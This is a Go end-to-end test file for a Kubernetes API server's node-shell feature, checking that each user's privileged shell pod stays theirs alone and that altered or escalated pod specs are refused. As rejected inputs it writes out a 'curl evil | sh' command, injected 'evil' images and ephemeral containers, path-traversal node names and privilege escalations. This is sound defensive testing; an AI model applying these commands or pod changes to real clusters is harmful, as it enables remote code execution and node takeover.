package e2e

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/coder/websocket"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	typedcorev1 "k8s.io/client-go/kubernetes/typed/core/v1"
	"k8s.io/client-go/rest"

	"kapis.dev/ks-apiserver/pkg/terminal/kubectlshell"
	"kapis.dev/ks-apiserver/pkg/terminal/nodeshell"
	"kapis.dev/ks-apiserver/pkg/terminal/shellpod"
	"kapis.dev/ks-apiserver/tools/stack"
)

const shellPods = "/api/v1/namespaces/kubesphere-node-shells/pods"

var runsOnNodes = rule{[]string{""}, []string{"nodes/exec"}, []string{"create"}}

// shellsOnNodes starts a server that has shells on nodes.
func shellsOnNodes(t *testing.T, env ...string) *stack.Replica {
	t.Helper()
	r, err := product.ReplicaWithEnv(t.Context(), append([]string{"KUBESPHERE_TERMINAL_NODE_IMAGE=example/tools"}, env...))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = r.Stop() })
	return r
}

// nativeAs returns the pods of shells on nodes at kube-apiserver itself, for somebody who is impersonated by its admin.
func nativeAs(t *testing.T, as rest.ImpersonationConfig) typedcorev1.PodInterface {
	t.Helper()
	return podsAs(t, nodeshell.Namespace, as)
}

// podsAs returns pods of a namespace at kube-apiserver itself, for somebody who is impersonated by its admin.
func podsAs(t *testing.T, namespace string, as rest.ImpersonationConfig) typedcorev1.PodInterface {
	t.Helper()
	c, err := product.RESTConfig()
	if err != nil {
		t.Fatal(err)
	}
	c.Impersonate = as
	client, err := kubernetes.NewForConfig(c)
	if err != nil {
		t.Fatal(err)
	}
	return client.CoreV1().Pods(namespace)
}

// shellsOf are the pods of a user's shells.
func shellsOf(ctx context.Context, pods typedcorev1.PodInterface, user string) (found []corev1.Pod, err error) {
	all, err := pods.List(ctx, metav1.ListOptions{})
	if err != nil {
		return nil, err
	}
	for _, p := range all.Items {
		if p.Annotations[shellpod.AnnotationUser] == user {
			found = append(found, p)
		}
	}
	return found, nil
}

// shellOf returns the pod of a user's only shell.
func shellOf(t *testing.T, user string) corev1.Pod {
	t.Helper()
	found, err := shellsOf(t.Context(), nativeAs(t, rest.ImpersonationConfig{}), user)
	if err != nil || len(found) != 1 {
		t.Fatalf("%s has %d shells: %v", user, len(found), err)
	}
	return found[0]
}

// without is a condition: a user has no shell.
func without(t *testing.T, user string) func(context.Context) error {
	t.Helper()
	return withoutAny(nativeAs(t, rest.ImpersonationConfig{}), user)
}

func withoutAny(pods typedcorev1.PodInterface, user string) func(context.Context) error {
	return func(ctx context.Context) error {
		found, err := shellsOf(ctx, pods, user)
		if err == nil && len(found) > 0 {
			err = fmt.Errorf("there is %s (%v)", found[0].Name, found[0].DeletionTimestamp)
		}
		return err
	}
}

// readyNode returns the name of a node.
func readyNode(t *testing.T) string {
	t.Helper()
	kube, err := product.KubeClient()
	if err != nil {
		t.Fatal(err)
	}
	nodes, err := kube.CoreV1().Nodes().List(t.Context(), metav1.ListOptions{})
	if err != nil || len(nodes.Items) == 0 {
		t.Fatalf("there is no node: %v", err)
	}
	return nodes.Items[0].Name
}

// runsShells returns a user at a server whose role gives shells on nodes.
func runsShells(t *testing.T, r *stack.Replica, path string, more ...rule) (c caller, user, role string) {
	t.Helper()
	user = unique("operator")
	c = newUser(t, user)
	c.base = r.URL
	role = grantGlobally(t, user, append(more, runsOnNodes)...)
	eventually(t, "the right counts", c.is(http.StatusBadRequest, http.MethodGet, path))
	return c, user, role
}

func TestAShellOnANodeIsItsUsersAlone(t *testing.T) { // O10
	r, node := shellsOnNodes(t), readyNode(t)
	path := terminalRoutes + "/nodes/" + node + "/exec"
	bob, name, _ := runsShells(t, r, path)
	operator, other, _ := runsShells(t, r, path, rule{[]string{""}, []string{"*"}, []string{"*"}})
	eventually(t, "the operator's right counts at kube-apiserver", operator.is(http.StatusOK, http.MethodGet, shellPods))

	p := openPage(t, bob, path+"?shell=sh")
	p.types(t, "echo on the no''de\r")
	p.shows(t, "on the node")
	pod := shellOf(t, name)
	if pod.Spec.NodeName != node || !*pod.Spec.Containers[0].SecurityContext.Privileged || pod.Spec.Containers[0].Image != "example/tools" ||
		*pod.Spec.ActiveDeadlineSeconds != 8*60*60+60 || pod.Spec.ServiceAccountName != "default" || len(pod.Spec.Volumes) > 0 {
		t.Errorf("the pod is %+v", pod.Spec)
	}

	t.Run("NobodyElseIsConnectedToIt", func(t *testing.T) {
		at, merge := shellPods+"/"+pod.Name, "Content-Type: application/strategic-merge-patch+json"
		for _, connection := range []string{"/exec?command=id&stdout=true", "/attach?stdin=true&stdout=true&tty=true", "/portforward", "/proxy/"} {
			for who, c := range map[string]caller{"the operator": operator, "bob himself": bob, "the admin": {r.URL, admin(t).token}} {
				for _, claim := range []string{"X-Nothing: x", "Impersonate-Group: kapis:platform:nodeshell"} {
					if a, err := c.do(t.Context(), http.MethodPost, at+connection, nil, claim); err != nil || a.code != http.StatusForbidden {
						t.Errorf("%s by %s: %d %s %v", who, connection, a.code, clip(a.body), err)
					}
				}
			}
		}
		if code := openPage(t, operator, terminalRoutes+strings.TrimPrefix(at, "/api/v1")+"/exec").ends(t); code != 4403 {
			t.Errorf("the operator's terminal there ends with %d", code)
		}
		for path, patch := range map[string]string{
			at: `{"spec":{"containers":[{"name":"shell","image":"evil"}]}}`, at + "/status": `{"metadata":{"labels":{"terminal.kapis.dev/user-uid":"x"}}}`,
			at + "/ephemeralcontainers": `{"spec":{"ephemeralContainers":[{"name":"x","image":"evil","targetContainerName":"shell"}]}}`,
		} {
			if a, err := operator.do(t.Context(), http.MethodPatch, path, patch, merge); err != nil || a.code != http.StatusForbidden {
				t.Errorf("%s: %d %s %v", path, a.code, clip(a.body), err)
			}
		}
		p.types(t, "echo still he''re\r")
		p.shows(t, "still here")
	})
	t.Run("ItTakesTheRight", func(t *testing.T) {
		reader, name := newUser(t, unique("reader")), unique("podmaster")
		everything := newUser(t, name)
		reader.base, everything.base = r.URL, r.URL
		grantGlobally(t, name, rule{[]string{"", "terminal.kubesphere.io"}, []string{"pods", "pods/*", "nodes", "nodes/status", "nodes/proxy"}, []string{"*"}},
			rule{[]string{"terminal.kubesphere.io"}, []string{"nodes/exec"}, []string{"*"}}, rule{[]string{""}, []string{"nodes/exec"}, []string{"get"}})
		eventually(t, "the other rights count", everything.is(http.StatusOK, http.MethodGet, "/api/v1/nodes"))
		for who, c := range map[string]caller{"a reader": reader, "who may do all with pods": everything, "a stranger": {base: r.URL}} {
			for _, prefix := range []string{"", "/clusters/host"} {
				for _, headers := range [][]string{nil, {"Impersonate-Group: kapis:platform:nodeshell"}} {
					if conn, code, err := dialPage(t.Context(), c, prefix+path, headers...); conn != nil || code != http.StatusForbidden {
						t.Errorf("%s: %d %v", who, code, err)
					}
				}
			}
		}
	})
	t.Run("WhatIsNoNodeHasNone", func(t *testing.T) {
		kube, err := product.KubeClient()
		if err != nil {
			t.Fatal(err)
		}
		idle := &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: unique("e2e-idle")}}
		if _, err := kube.CoreV1().Nodes().Create(t.Context(), idle, metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = kube.CoreV1().Nodes().Delete(context.Background(), idle.Name, metav1.DeleteOptions{}) })
		for at, want := range map[string]int{idle.Name: 409, "none": 404, "..%2f" + node: 400, node + "%2f..": 400, "n%C3%B6de": 400, "N_": 400, pod.Name: 404} {
			at := strings.Replace(path, "/"+node+"/", "/"+at+"/", 1)
			eventually(t, fmt.Sprintf("%s is answered with %d", at, want), func(ctx context.Context) error {
				conn, code, err := dialPage(ctx, bob, at)
				if conn != nil || code != want {
					return fmt.Errorf("%d %w", code, err)
				}
				return nil
			})
		}
	})
	t.Run("OneUserHasTwo", func(t *testing.T) { // O6
		openPage(t, bob, path)
		if conn, code, err := dialPage(t.Context(), bob, path); conn != nil || code != http.StatusTooManyRequests {
			t.Errorf("the third one: %d %v", code, err)
		}
		openPage(t, operator, "/clusters/host"+path)
	})
	p.types(t, "exit\r")
	if code := p.ends(t); code != websocket.StatusNormalClosure {
		t.Errorf("it ends with %d", code)
	}
	for _, user := range []string{name, other} { // openPage's clean-up has closed the others
		eventually(t, "the shells of "+user+" are deleted", without(t, user))
	}
}

// Each end of a shell ends its pod.
func TestAShellOnANodeEndsWithTheRight(t *testing.T) { // O10, O5
	r, node := shellsOnNodes(t), readyNode(t)
	path, a := terminalRoutes+"/nodes/"+node+"/exec", admin(t)
	for name, c := range map[string]struct {
		end  func(t *testing.T, user, role string, c caller, p *shellPage)
		code websocket.StatusCode
	}{
		"the client leaves": {func(_ *testing.T, _, _ string, _ caller, p *shellPage) { _ = p.conn.CloseNow() }, -1},
		"the right is revoked": {func(t *testing.T, _, role string, _ caller, _ *shellPage) {
			a.must(t, http.StatusOK, http.MethodDelete, iamAPI+"/globalrolebindings/"+role, nil)
		}, 4403},
		"the user is disabled": {func(t *testing.T, user, _ string, _ caller, _ *shellPage) {
			a.must(t, http.StatusOK, http.MethodPatch, iamAPI+"/users/"+user+"/status", `{"status":{"state":"Disabled"}}`, asMerge)
		}, 4401},
		"the session is over": {func(t *testing.T, _, _ string, c caller, _ *shellPage) {
			c.must(t, http.StatusOK, http.MethodGet, "/oauth/logout", nil)
		}, 4401},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			bob, user, role := runsShells(t, r, path)
			p := openPage(t, bob, path)
			p.types(t, "echo be''gun\r")
			p.shows(t, "begun")
			shellOf(t, user)
			c.end(t, user, role, bob, p)
			if code := p.ends(t); code != c.code {
				t.Errorf("it ends with %d, want %d", code, c.code)
			}
			eventually(t, "the pod is deleted", without(t, user))
		})
	}
}

// Nobody but ks-apiserver, for the user whose shell it is, makes a pod there, and none of another shape.
func TestNoOtherPodIsAShellOnANode(t *testing.T) { // O10
	const uid, other = "0b0b0b0b-1111-4222-8333-444444444444", "1b0b0b0b-1111-4222-8333-444444444444"
	node := readyNode(t)
	group := []string{"system:authenticated", nodeshell.Group}
	bob := rest.ImpersonationConfig{UserName: "bob", UID: uid, Groups: group}
	pod := func(profile nodeshell.Profile, change func(*corev1.Pod)) *corev1.Pod {
		p := nodeshell.Shell{Node: node, Image: "example/tools", Profile: profile, User: "bob", UID: uid, Command: []string{"sh"}, Max: time.Hour}.Pod()
		if change != nil {
			change(p)
		}
		return p
	}
	try := func(as rest.ImpersonationConfig, p *corev1.Pod) error {
		_, err := nativeAs(t, as).Create(t.Context(), p, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		return err
	}
	refused := func(t *testing.T, err error) {
		t.Helper()
		if !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "node-shells.kapis.dev") {
			t.Errorf("not refused by the policy: %v", err)
		}
	}
	for _, profile := range []nodeshell.Profile{nodeshell.Sysadmin, nodeshell.Netadmin, nodeshell.General} {
		for _, command := range [][]string{{"sh"}, {"bash"}, {"sh", "-c", "command -v bash >/dev/null && exec bash || exec sh"}} {
			p := nodeshell.Shell{Node: node, Image: "example/tools", Profile: profile, User: "bob", UID: uid, Command: command}.Pod()
			if err := try(bob, p); err != nil {
				t.Errorf("%s with %q: %v", profile, command, err)
			}
		}
	}
	for who, as := range map[string]rest.ImpersonationConfig{
		"the admin of the cluster":   {},
		"of the masters":             {UserName: "root", UID: uid, Groups: []string{"system:masters"}},
		"the controller of replicas": {UserName: "system:serviceaccount:kube-system:replicaset-controller", Groups: []string{"system:serviceaccounts"}},
		"this server's own name":     {UserName: "system:serviceaccount:kubesphere-system:ks-apiserver", Groups: []string{"system:masters"}},
		"bob with another UID":       {UserName: "bob", UID: other, Groups: group},
		"bob without a UID":          {UserName: "bob", Groups: group},
		"bob's UID of another":       {UserName: "ann", UID: uid, Groups: group},
		"a UID that is a pattern":    {UserName: "bob", UID: ".*", Groups: group},
	} {
		t.Run(who, func(t *testing.T) {
			refused(t, try(as, pod(nodeshell.General, func(p *corev1.Pod) {
				if as.UID == ".*" {
					p.GenerateName, p.Labels = "node-shell-x-", nil
				}
			})))
		})
	}
	shell := func(change func(*corev1.Container)) func(*corev1.Pod) {
		return func(p *corev1.Pod) { change(&p.Spec.Containers[0]) }
	}
	for what, c := range map[string]struct {
		profile nodeshell.Profile
		change  func(*corev1.Pod)
	}{
		"another user's label": {nodeshell.General, func(p *corev1.Pod) { p.Labels[shellpod.LabelUser] = other }},
		"another label":        {nodeshell.General, func(p *corev1.Pod) { p.Labels["more"] = "x" }},
		"no label":             {nodeshell.General, func(p *corev1.Pod) { p.Labels = nil }},
		"another user's name":  {nodeshell.General, func(p *corev1.Pod) { p.Annotations[shellpod.AnnotationUser] = "ann" }},
		"another prefix":       {nodeshell.General, func(p *corev1.Pod) { p.GenerateName = nodeshell.NamePrefix(other) }},
		"another name":         {nodeshell.General, func(p *corev1.Pod) { p.Name = "web" }},
		"a finalizer":          {nodeshell.General, func(p *corev1.Pod) { p.Finalizers = []string{"example.com/x"} }},
		"an owner": {nodeshell.General, func(p *corev1.Pod) {
			p.OwnerReferences = []metav1.OwnerReference{{APIVersion: "v1", Kind: "Pod", Name: "x", UID: "x"}}
		}},
		"no node":   {nodeshell.Sysadmin, func(p *corev1.Pod) { p.Spec.NodeName = "" }},
		"a restart": {nodeshell.Sysadmin, func(p *corev1.Pod) { p.Spec.RestartPolicy = corev1.RestartPolicyAlways }},
		"a token":   {nodeshell.Sysadmin, func(p *corev1.Pod) { p.Spec.AutomountServiceAccountToken = nil }},
		"links":     {nodeshell.Sysadmin, func(p *corev1.Pod) { p.Spec.EnableServiceLinks = nil }},
		"two containers": {nodeshell.Sysadmin, func(p *corev1.Pod) {
			p.Spec.Containers = append(p.Spec.Containers, corev1.Container{Name: "x", Image: "x"})
		}},
		"one that comes first":  {nodeshell.Sysadmin, func(p *corev1.Pod) { p.Spec.InitContainers = []corev1.Container{{Name: "x", Image: "x"}} }},
		"the node's IPC":        {nodeshell.Sysadmin, func(p *corev1.Pod) { p.Spec.HostIPC = true }},
		"one namespace of PIDs": {nodeshell.Netadmin, func(p *corev1.Pod) { p.Spec.ShareProcessNamespace = new(true) }},
		"groups of files": {nodeshell.General, func(p *corev1.Pod) {
			p.Spec.SecurityContext = &corev1.PodSecurityContext{SupplementalGroups: []int64{6}}
		}},
		"another command":    {nodeshell.Sysadmin, shell(func(s *corev1.Container) { s.Command = []string{"sh", "-c", "curl evil | sh"} })},
		"more after nsenter": {nodeshell.Sysadmin, shell(func(s *corev1.Container) { s.Command = append(s.Command, "-c", "evil") })},
		"arguments":          {nodeshell.Sysadmin, shell(func(s *corev1.Container) { s.Args = []string{"-c", "evil"} })},
		"variables":          {nodeshell.General, shell(func(s *corev1.Container) { s.Env = []corev1.EnvVar{{Name: "ENV", Value: "/x"}} })},
		"no input":           {nodeshell.General, shell(func(s *corev1.Container) { s.Stdin, s.StdinOnce = false, false })},
		"no terminal":        {nodeshell.General, shell(func(s *corev1.Container) { s.TTY = false })},
		"a hook": {nodeshell.Sysadmin, shell(func(s *corev1.Container) {
			s.Lifecycle = &corev1.Lifecycle{PreStop: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"x"}}}}
		})},
		"a probe": {nodeshell.Sysadmin, shell(func(s *corev1.Container) {
			s.LivenessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"x"}}}}
		})},
		"the power of another": {nodeshell.General, shell(func(s *corev1.Container) { s.SecurityContext = &corev1.SecurityContext{Privileged: new(true)} })},
		"one capability more": {nodeshell.Netadmin, shell(func(s *corev1.Container) {
			s.SecurityContext.Capabilities.Add = append(s.SecurityContext.Capabilities.Add, "SYS_ADMIN")
		})},
		"capabilities":          {nodeshell.General, shell(func(s *corev1.Container) { s.SecurityContext.Capabilities.Drop = nil })},
		"escalation":            {nodeshell.Netadmin, shell(func(s *corev1.Container) { s.SecurityContext.AllowPrivilegeEscalation = new(true) })},
		"all system calls":      {nodeshell.Netadmin, shell(func(s *corev1.Container) { s.SecurityContext.SeccompProfile.Type = corev1.SeccompProfileTypeUnconfined })},
		"processes and network": {nodeshell.Netadmin, func(p *corev1.Pod) { p.Spec.HostPID = true }},
		"network and processes": {nodeshell.General, func(p *corev1.Pod) { p.Spec.HostNetwork = true }},
		"a folder of the node":  {nodeshell.Netadmin, func(p *corev1.Pod) { p.Spec.Volumes = pod(nodeshell.General, nil).Spec.Volumes }},
		"files that can be written": {nodeshell.General, shell(func(s *corev1.Container) {
			s.VolumeMounts[0].ReadOnly, s.VolumeMounts[0].RecursiveReadOnly = false, nil
		})},
		"files elsewhere": {nodeshell.General, shell(func(s *corev1.Container) { s.VolumeMounts[0].MountPath = "/etc" })},
		"another folder":  {nodeshell.General, func(p *corev1.Pod) { p.Spec.Volumes[0].HostPath.Path = "/etc" }},
	} {
		t.Run(what, func(t *testing.T) { refused(t, try(bob, pod(c.profile, c.change))) })
	}

	t.Run("WhatIsThereStaysAsItIs", func(t *testing.T) {
		root, mine := nativeAs(t, rest.ImpersonationConfig{}), nativeAs(t, bob)
		p, err := mine.Create(t.Context(), pod(nodeshell.General, nil), metav1.CreateOptions{})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = root.Delete(context.Background(), p.Name, metav1.DeleteOptions{}) })
		for _, patch := range []string{`{"spec":{"containers":[{"name":"shell","image":"evil"}]}}`, `{"metadata":{"labels":{"terminal.kapis.dev/user-uid":"` + other + `"}}}`,
			`{"metadata":{"annotations":{"terminal.kapis.dev/user":"ann"}}}`, `{"spec":{"activeDeadlineSeconds":1}}`} {
			_, err := root.Patch(t.Context(), p.Name, types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{})
			refused(t, err)
		}
		if _, err := root.Patch(t.Context(), p.Name, types.MergePatchType, []byte(`{"status":{"message":"by kubelet"}}`), metav1.PatchOptions{}, "status"); err != nil {
			t.Errorf("kubelet tells the status: %v", err)
		}
		if _, err := root.Patch(t.Context(), p.Name, types.MergePatchType, []byte(`{"metadata":{"annotations":{"seen":"x"}}}`), metav1.PatchOptions{}); err != nil {
			t.Errorf("an annotation of others: %v", err)
		}
		ann := rest.ImpersonationConfig{UserName: "ann", UID: other, Groups: group}
		refused(t, nativeAs(t, ann).Delete(t.Context(), p.Name, metav1.DeleteOptions{}))
		if err := mine.Delete(t.Context(), p.Name, metav1.DeleteOptions{}); err != nil {
			t.Errorf("one's own is deleted: %v", err)
		}
	})
	t.Run("TheGroupReachesNothingElse", func(t *testing.T) {
		client, err := product.RESTConfig()
		if err != nil {
			t.Fatal(err)
		}
		client.Impersonate = bob
		kube, err := kubernetes.NewForConfig(client)
		if err != nil {
			t.Fatal(err)
		}
		_, inDefault := kube.CoreV1().Pods("default").Create(t.Context(), pod(nodeshell.General, func(p *corev1.Pod) { p.Namespace = "default" }), metav1.CreateOptions{})
		_, listed := kube.CoreV1().Pods(nodeshell.Namespace).List(t.Context(), metav1.ListOptions{})
		_, secrets := kube.CoreV1().Secrets(nodeshell.Namespace).List(t.Context(), metav1.ListOptions{})
		for _, err := range []error{inDefault, listed, secrets} {
			if !apierrors.IsForbidden(err) {
				t.Error(err)
			}
		}
	})
	t.Run("NobodyIsGivenTheGroup", func(t *testing.T) {
		a := admin(t)
		a.must(t, http.StatusUnprocessableEntity, http.MethodPost, iamAPI+"/users", iamObject("User", unique("claims"), obj{"spec": obj{
			"email": "claims@example.com", "groups": []string{nodeshell.Group}}}))
	})
}

// What a server that was killed leaves behind is deleted within 90 s, and so is what nobody serves or may have.
func TestWhatIsLeftOfNodeShellsIsDeleted(t *testing.T) { // O11
	const promised = 90 * time.Second
	r, node := shellsOnNodes(t, kubectlImage), readyNode(t)
	path := terminalRoutes + "/nodes/" + node + "/exec"
	bob, name, _ := runsShells(t, r, path)
	ann, disabled, _ := runsShells(t, r, path)
	shells := podsAs(t, kubectlshell.Namespace, rest.ImpersonationConfig{})
	for user, c := range map[string]caller{name: bob, disabled: ann} {
		openPage(t, c, kubectlShellOf(user))
		if found, err := shellsOf(t.Context(), shells, user); err != nil || len(found) != 1 {
			t.Fatalf("%d pods with kubectl: %v", len(found), err)
		}
	}
	openPage(t, bob, path)
	openPage(t, bob, path)
	openPage(t, ann, path)
	root := nativeAs(t, rest.ImpersonationConfig{})
	if found, err := shellsOf(t.Context(), root, name); err != nil || len(found) != 2 {
		t.Fatalf("%d pods: %v", len(found), err)
	}
	kube, err := product.KubeClient()
	if err != nil {
		t.Fatal(err)
	}
	lease, err := kube.CoordinationV1().Leases(nodeshell.Namespace).Get(t.Context(), shellOf(t, disabled).Name, metav1.GetOptions{})
	if err != nil || lease.OwnerReferences[0].UID != shellOf(t, disabled).UID {
		t.Fatalf("%+v %v", lease, err)
	}
	r.Kill()
	if found, err := shellsOf(t.Context(), root, name); err != nil || len(found) != 2 {
		t.Fatalf("%d pods are left: %v", len(found), err)
	}
	admin(t).must(t, http.StatusOK, http.MethodPatch, iamAPI+"/users/"+disabled+"/status", `{"status":{"state":"Disabled"}}`, asMerge)
	eventually(t, "the shell of a user who is disabled is deleted", without(t, disabled))
	eventually(t, "and that with kubectl", withoutAny(shells, disabled))
	within(t, promised, "the shells of the killed server are deleted", without(t, name))
	within(t, promised, "and that with kubectl", withoutAny(shells, name))
	for _, namespace := range []string{nodeshell.Namespace, kubectlshell.Namespace} {
		eventually(t, "their Leases go, too", func(ctx context.Context) error {
			l, err := kube.CoordinationV1().Leases(namespace).List(ctx, metav1.ListOptions{})
			if err == nil && len(l.Items) > 0 {
				err = errors.New(l.Items[0].Name)
			}
			return err
		})
	}
}
